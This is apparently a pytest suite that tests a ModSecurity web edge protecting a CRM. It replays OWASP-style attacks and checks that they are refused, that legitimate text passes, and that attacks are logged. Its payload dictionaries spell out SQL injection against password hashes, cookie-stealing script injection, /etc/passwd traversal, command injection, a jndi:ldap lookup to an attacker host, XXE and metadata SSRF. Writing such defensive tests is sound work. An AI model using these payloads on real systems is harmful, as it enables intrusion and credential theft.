# SPDX-License-Identifier: Apache-2.0
"""The edge against attacks: a replay of well-known ones, and the same door open for real work."""

import contextlib
import gzip
import json
import secrets
import socket
import time

import pytest
from apache_settings import edge_settings, said, strange_rules
from crm_client import Answer, Door
from known_attacks import ATTACKS, LOGIN_BEHIND
from ordinary_texts import TEXTS
from sabotage.edge import SABOTAGE

from jinku.parts import part_version

__all__ = ["SABOTAGE"]  # what breaks these tests, found here by its runner

#: What the CRM itself answers to a call without a login: the edge let it pass.
BY_CRM = 401
REFUSED = {400, 403, 404, 405, 413, 415, 421}
JSON = {"Content-Type": "application/json"}
# One of each family of the OWASP Top 10 that arrives with a request; harmless to a system that is not open to it.
IN_THE_ADDRESS = {
    "SQL injection": "/?id=1%27%20UNION%20SELECT%20login,password_hash%20FROM%20res_user--%20",
    "script injection": "/?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
    "path traversal": "/?file=../../../../etc/passwd",
    "path traversal in the path": "/%2e%2e/%2e%2e/etc/passwd",
    "command injection": "/?host=127.0.0.1;cat%20/etc/passwd",
    "lookup injection": "/?x=$%7Bjndi:ldap://attacker.invalid/a%7D",
    "request forgery by the server": "/?url=http://169.254.169.254/latest/meta-data/",
    "a repository left behind": "/.git/config",
}
IN_A_FIELD = {
    "SQL injection": "x' OR 1=1 UNION SELECT login, password_hash FROM res_user -- ",
    "SQL statement": "1; DROP TABLE res_user;--",
    "script injection": "<script>alert(document.cookie)</script>",
    "event handler": "<img src=x onerror=alert(1)>",
    "path traversal": "../../../../etc/passwd",
    "command injection": "$(cat /etc/passwd)",
    "lookup injection": "${jndi:ldap://attacker.invalid/a}",
    "external entity": "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>",
}
ORDINARY = (
    "上海云杉科技有限公司",
    "北京 — “引号” <重要> & 测试；报价 100%",
    "O'Brien & Sons; select the best offer, drop by at 3pm",
    "Meeting -- confirm with Li; delete the old offer from 2024 if (price > 5)",
    "C:\\Users\\张三\\合同.docx",
)


@pytest.fixture
def door(subject, topology, places) -> Door:
    """The edge under test, from outside."""
    return Door.of(topology, places, topology.node(subject.node))


@pytest.fixture
def ask_edge(door, subject, observe):
    """`ask_edge(method, path, body, headers)`: one request, kept as evidence."""

    def asked(method: str, path: str, body: bytes | None = None, headers: dict[str, str] | None = None) -> Answer:
        began = time.time()
        answer = door.request(method, path, body, headers)
        shown = f"{method} https://{door.name}{path} {headers or ''} {(body or b'')[:200].decode(errors='replace')}"
        observe(subject.node, shown, f"HTTP {answer.status}\n{dict(answer.headers)}", began=began)
        return answer

    return asked


def rpc(*params: object) -> bytes:
    """A call with these parameters, without a login; the CRM answers each with BY_CRM."""
    return json.dumps({"id": 0, "method": "common.server.version", "params": list(params)}).encode()


@pytest.mark.control("dengbao:8.1.3.3.a", "dengbao:8.1.3.2.e", "dengbao:8.1.4.4.d", "iso27001:A.8.20")
@pytest.mark.objects("edge")
@pytest.mark.setting
def test_the_attack_rules_block(host):
    """The running edge has the rule engine loaded, set to block, over requests and their bodies; nothing takes a rule or a field away.

    zh: 边界已加载攻击防护规则引擎，处于阻断模式，并检查请求体；无停用规则或豁免字段的附加设置。
    """
    settings = edge_settings(host)
    engines = said(settings, "SecRuleEngine")
    assert engines == ["On"], f"rule engine: {engines}"
    assert said(settings, "SecRequestBodyAccess") == ["On"], "bodies are not looked at, or not everywhere"
    rules = sum(line.startswith(("SecRule ", "SecAction ")) for line in settings)
    assert rules > 150, f"only {rules} rules: the Core Rule Set is not among them"
    strange = strange_rules(host, settings)
    assert not strange, f"beside the rules that Jinku wrote: {'; '.join(strange[:4])}"
    since = host.check_output("systemctl show apache2 --property=ActiveEnterTimestampMonotonic --value")
    assert int(since) > 0, "the edge is not running"


@pytest.mark.control("dengbao:8.1.3.3.a")
@pytest.mark.objects("edge")
@pytest.mark.setting
def test_the_attack_rules_are_the_newest_there_are(host):
    """The rules are the pinned release of the Core Rule Set's LTS line, unchanged, and no other; the engine's source is asked daily.

    zh: 攻击防护规则为锁定的核心规则集长期支持版本且未被改动；引擎的软件源每日检查更新。
    """
    installed = host.check_output("dpkg-query -W -f='${Version}' coreruleset")
    assert installed == part_version("coreruleset"), f"installed {installed}, pinned {part_version('coreruleset')}"
    assert host.run("dpkg --verify coreruleset").stdout == "", "the rules were changed on the host"
    loaded = {line.split()[1] for line in edge_settings(host) if line.startswith("SecComponentSignature ")}
    assert loaded == {f'"OWASP_CRS/{installed.partition("-")[0]}"'}, f"rules in force: {loaded}"
    assert host.check_output("systemctl is-active apt-daily.timer") == "active", "nothing asks for newer rules"


@pytest.mark.control("dengbao:8.1.3.3.a", "dengbao:8.1.4.4.d", "iso27001:A.8.26")
@pytest.mark.objects("edge")
@pytest.mark.behaviour
def test_known_attacks_are_refused(ask_edge):
    """Well-known attacks in the address of a request are refused; the same door serves the CRM's start page.

    zh: 请求地址中的典型攻击载荷均被拒绝，而正常访问不受影响。
    """
    assert ask_edge("GET", "/").status == 200, "the CRM's page is not served, so a refusal would prove nothing"
    let_in = [name for name, path in IN_THE_ADDRESS.items() if ask_edge("GET", path).status not in REFUSED]
    assert not let_in, f"let in: {', '.join(let_in)}"
    assert ask_edge("GET", "/", headers={"User-Agent": "sqlmap/1.8"}).status in REFUSED, (
        "a scanner that says so is let in"
    )


@pytest.mark.control("dengbao:8.1.4.4.d", "dengbao:8.1.3.2.e", "iso27001:A.8.26")
@pytest.mark.objects("edge")
@pytest.mark.behaviour
def test_attacks_in_the_fields_of_the_crm_are_refused(ask_edge):
    """Attacks inside the fields of the CRM's own requests are refused; ordinary Chinese and English text is not.

    zh: 业务接口字段中的注入、脚本与遍历载荷被拒绝，正常中英文内容可通过。
    """
    for text in (*ORDINARY, *TEXTS):
        answer = ask_edge("POST", "/crm/", rpc(text), JSON)
        assert answer.status == BY_CRM, f"ordinary text does not reach the CRM: {text}: HTTP {answer.status}"
    let_in = [
        name
        for name, text in {**IN_A_FIELD, **ATTACKS}.items()
        if ask_edge("POST", "/crm/", rpc({"name": text}), JSON).status not in REFUSED
    ]
    assert not let_in, f"let in: {', '.join(let_in)}"


@pytest.mark.control("dengbao:8.1.4.4.d", "iso27001:A.8.26")
@pytest.mark.objects("edge")
@pytest.mark.behaviour
def test_a_password_is_exempt_in_a_login_and_nowhere_else(ask_edge):
    """A password that looks like an attack reaches the CRM in a login; the same in a field called password elsewhere does not.

    zh: 仅登录请求中的口令字段免检，其他位置的同名字段仍受检查。
    """
    attack = IN_A_FIELD["SQL injection"]
    login = {"id": 0, "method": "common.db.login", "params": ["nobody-of-that-name", {"password": attack}, "en"]}
    good = ask_edge("POST", "/crm/", json.dumps(login).encode(), JSON).status
    assert good not in {400, 403}, "a good password is refused"
    for name, path, text in (
        ("another method", "/crm/", json.dumps({**login, "method": "common.server.version"})),
        ("another path", "/other/", json.dumps(login)),
        ("two methods", "/crm/", json.dumps(login).replace('"params"', '"method": "common.server.version", "params"')),
        ("another field", "/crm/", json.dumps(login).replace('"password"', '"x.password"')),
    ):
        assert ask_edge("POST", path, text.encode(), JSON).status == 403, f"let in: {name}"


@pytest.mark.control("dengbao:8.1.3.2.e", "dengbao:8.1.4.4.d", "iso27001:A.8.23")
@pytest.mark.objects("edge")
@pytest.mark.behaviour
def test_only_what_the_rules_can_read_passes(ask_edge):
    """Whatever would hide an attack from the rules is refused: other content types, compression, false base64, malformed JSON.

    zh: 可绕过检查的内容类型、压缩、伪造编码及畸形报文均被拒绝。
    """
    attack = rpc({"name": IN_A_FIELD["script injection"]})
    tries = {
        "JSON under another name": (attack, {"Content-Type": "text/plain; charset=json"}),
        "a compressed body": (gzip.compress(attack), {**JSON, "Content-Encoding": "gzip"}),
        "a field that only says base64": (rpc({"name": {"base64": IN_A_FIELD["script injection"]}}), JSON),
        "XML": (b"<?xml version='1.0'?><methodCall/>", {"Content-Type": "text/xml"}),
        "a form": (b"name=x", {"Content-Type": "application/x-www-form-urlencoded"}),
        "an empty body": (b"", JSON),
        "a login behind a long call": (LOGIN_BEHIND, {**JSON, "Authorization": "Session YWRtaW46MTpzdGFsZQ=="}),
    }
    let_in = [
        name
        for name, (body, headers) in tries.items()
        if ask_edge("POST", "/crm/", body, headers).status not in REFUSED
    ]
    assert not let_in, f"let in: {', '.join(let_in)}"
    assert ask_edge("POST", "/crm/", b'{"id":', JSON).status in REFUSED | {500}, "malformed JSON is passed on"


@pytest.mark.control("dengbao:8.1.3.2.e", "iso27001:A.8.23")
@pytest.mark.objects("edge")
@pytest.mark.behaviour
def test_only_the_methods_paths_and_names_of_the_crm_are_served(door, ask_edge, subject, observe):
    """Other HTTP methods, Tryton's keyed applications, foreign host names, and what is not HTTP are refused.

    zh: 非业务所需的方法、路径、主机名及非 HTTP 协议被拒绝。
    """
    for method in ("PUT", "DELETE", "TRACE", "OPTIONS", "PATCH"):
        assert ask_edge(method, "/crm/").status in REFUSED, f"{method} is served"
    keyed = ("/crm/user/application/", "/crm/%75ser/application/", "//crm//user/application/")
    for path in (*keyed, "/crm/data/ir.session?f=key", "/crm/ir/html/ir.session/2/key", "/health", "//HEALTH/"):
        assert ask_edge("GET", path).status in {403, 404}, f"{path} is served"
    assert ask_edge("GET", "/", headers={"Host": "attacker.invalid"}).status == 421, "a foreign host name is served"
    with socket.create_connection((door.address, door.port), timeout=10) as plain:
        plain.sendall(b"SSH-2.0-OpenSSH_9.9\r\n")
        answer = plain.recv(200)
    observe(subject.node, f"SSH-2.0 banner to {door.address}:{door.port}", answer.decode(errors="replace"))
    assert b"SSH-" not in answer


@pytest.mark.control("dengbao:8.1.4.4.d", "iso27001:A.8.6")
@pytest.mark.objects("edge")
@pytest.mark.behaviour
def test_size_is_limited_and_an_attachment_fits(ask_edge):
    """A file of 20 MiB, as base64 in JSON, reaches the CRM; a body of 64 MiB is refused before it is read, 3 MiB without a session too.

    zh: 20 MiB 附件可正常提交，64 MiB 的请求体及无会话的大请求被拒绝。
    """
    # Without a login the CRM itself takes less; its refusal, in its own words, shows that the edge let it pass.
    values = {"name": "扫描件.pdf", "data": {"__class__": "bytes", "base64": "QUJD" * (20 * 1024 * 1024 // 3)}}
    file = json.dumps({"id": 0, "method": "model.ir.attachment.create", "params": [[values], {}]}).encode()
    answer = ask_edge("POST", "/crm/", file, {**JSON, "Authorization": "Session YWRtaW46MTpzdGFsZQ=="})
    assert answer.status == BY_CRM or b"data value transmitted exceeds" in answer.body, (
        f"an attachment is refused: HTTP {answer.status}"
    )
    with contextlib.suppress(ConnectionError):  # the edge may hang up in the middle of the body: refused as well
        assert ask_edge("POST", "/crm/", b"x" * (64 << 20), JSON).status == 413
    with contextlib.suppress(ConnectionError):
        assert ask_edge("POST", "/crm/", file[: 3 << 20], JSON).status == 413


@pytest.mark.control("dengbao:8.1.3.3.d", "dengbao:8.1.3.5.b", "dengbao:8.1.3.5.a", "iso27001:A.8.15")
@pytest.mark.objects("edge")
@pytest.mark.behaviour
def test_an_attack_is_on_record_with_its_true_source(door, ask_edge, host, fleet, topology, subject):
    """Source, kind, target and time of an attack stand in the edge's log and at the log tier; the client cannot forge its address.

    zh: 攻击来源、类型、目标与时间已记入边界日志并到达日志服务器，客户端无法伪造来源地址。
    """
    mark = secrets.token_hex(8)
    forged = "203.0.113.99"
    began = time.time()
    path = f"/{mark}?id=1%27%20UNION%20SELECT%20login%20FROM%20res_user--%20"
    assert ask_edge("GET", path, headers={"X-Forwarded-For": forged}).status == 403
    with socket.create_connection((door.address, door.port), timeout=10) as plain:
        own = plain.getsockname()[0]
    lines = host.check_output(f"journalctl -q -o short-iso --since=@{int(began) - 1} | grep -F {mark}").splitlines()
    refusals = [line for line in lines if "ModSecurity" in line and '[id "942' in line]
    assert refusals, f"no rule against SQL injection is on record for {mark}"
    assert f"[client {own}" in refusals[0], f"the record does not name {own}"
    assert f'[uri "/{mark}"]' in refusals[0]
    access = [line for line in lines if "apache-access" in line]
    assert access, "no line in the access log"
    assert f"client={own} " in access[0]
    assert "status=403" in access[0]
    assert not [line for line in lines if forged in line], "the address that the client chose is on record"
    logs = topology.nodes_of("log")[0]
    command = (
        f"for i in $(seq 60); do grep -rhF {mark} /var/log/remote/{subject.node}/ && exit 0; sleep 1; done; exit 1"
    )
    assert fleet.host(logs.name).run(command, timeout=70).rc == 0, f"{logs.name} has no such line after 60 s"


@pytest.mark.control("dengbao:8.1.4.4.d", "iso27001:A.8.26")
@pytest.mark.objects("edge")
@pytest.mark.behaviour
def test_pages_tell_browsers_to_be_strict_and_name_no_version(ask_edge):
    """Every page forbids foreign scripts, framing and guessing of types, and no answer names a version or the back end.

    zh: 响应头限制外来脚本、嵌套与类型猜测，且不泄露软件版本及后端信息。
    """
    headers = ask_edge("GET", "/").headers
    told = headers.get("content-security-policy", "")
    policy = dict(part.strip().partition(" ")[::2] for part in told.split(";"))
    assert policy.get("default-src") == "'none'", f"what a page may load: {told or 'anything'}"
    scripts = policy.get("script-src", "")
    assert "'unsafe-inline'" not in scripts, f"scripts: {scripts}"
    assert "'unsafe-eval'" not in scripts, f"scripts: {scripts}"
    assert policy.get("frame-ancestors") == "'none'", f"may be framed: {told}"
    assert headers.get("x-content-type-options") == "nosniff", "browsers may guess types"
    for sent in (headers, ask_edge("GET", "/nothing-here").headers):
        assert sent.get("server", "Apache") == "Apache", f"Server: {sent['server']}"
        assert not {"x-powered-by", "via"} & set(sent)
